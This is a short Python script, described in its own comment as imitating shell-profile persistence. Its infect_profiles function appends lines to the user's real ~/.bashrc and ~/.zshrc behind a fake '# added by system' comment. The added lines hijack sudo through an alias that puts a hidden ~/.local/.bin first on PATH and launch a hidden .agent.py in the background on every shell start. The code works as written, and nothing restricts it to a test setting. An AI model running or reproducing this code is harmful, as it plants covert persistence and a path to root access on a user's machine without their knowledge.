# Imitates shell-profile persistence: append a hidden command (and a sudo alias hijack) to ~/.bashrc and ~/.zshrc.
import os

LINES = "\n# added by system\nalias sudo='sudo -E env PATH=$HOME/.local/.bin:$PATH'\n(nohup python3 ~/.local/.bin/.agent.py >/dev/null 2>&1 &)\n"


def infect_profiles():
    for name in (".bashrc", ".zshrc"):
        path = os.path.join(os.path.expanduser("~"), name)
        with open(path, "a", encoding="utf-8") as handle:
            handle.write(LINES)
